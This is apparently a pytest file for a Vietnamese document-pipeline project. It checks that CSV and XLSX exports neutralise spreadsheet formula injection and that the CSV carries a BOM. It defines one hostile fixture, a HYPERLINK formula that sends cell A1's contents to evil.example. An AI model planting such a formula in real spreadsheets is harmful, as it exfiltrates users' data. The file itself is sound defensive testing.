"""Feeds safe to open (issue 18): a subject or task that begins like a formula is text in the CSV
and the XLSX a clerk opens, and the CSV carries a UTF-8 BOM so Excel shows Vietnamese."""
from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from congvan.pipeline.export import export, neutralise
from congvan.pipeline.ingest import ingest
from congvan.pipeline.store import Store

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'


@pytest.fixture(scope="module")
def store(tmp_path_factory, sample):
    inbox = tmp_path_factory.mktemp("evil")
    (inbox / sample.name).write_bytes(sample.read_bytes())
    db = inbox.parent / "evil.db"
    assert ingest(inbox, db).stored == 1
    s = Store(db)
    sha = s.db.execute("SELECT sha256 FROM documents").fetchone()[0]
    # a subject as a hostile letter (or a careless reviewer) would carry it
    s.add_correction(sha256=sha, target="document", field="subject", old_value=None, new_value=EVIL, author="lan")
    return s


def test_a_formula_in_the_csv_is_text_and_the_csv_has_a_bom(store):
    data, _, _ = export(store, "csv")
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows and all(r["subject"] == "'" + EVIL for r in rows)
    assert all(not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in r.values()) for r in rows)


def test_a_formula_in_the_xlsx_is_a_string_cell(store, tmp_path):
    data, _, _ = export(store, "xlsx")
    ws = load_workbook(io.BytesIO(data)).active
    from congvan.pipeline.xlsx import HEADERS

    col = [c.value for c in ws[1]].index(HEADERS["subject"])  # the clerk's header for the subject
    cells = [row[col] for row in ws.iter_rows(min_row=2)]
    assert cells
    for cell in cells:
        assert cell.value == EVIL and cell.data_type == "s" and cell.quotePrefix
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)


@pytest.mark.parametrize("value, out", [
    ("=1+1", "'=1+1"), ("+84 912", "'+84 912"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("Báo cáo", "Báo cáo"), ("", ""), (None, None), (0.85, 0.85), (-3, -3),
])
def test_neutralise_table(value, out):
    assert neutralise(value) == out
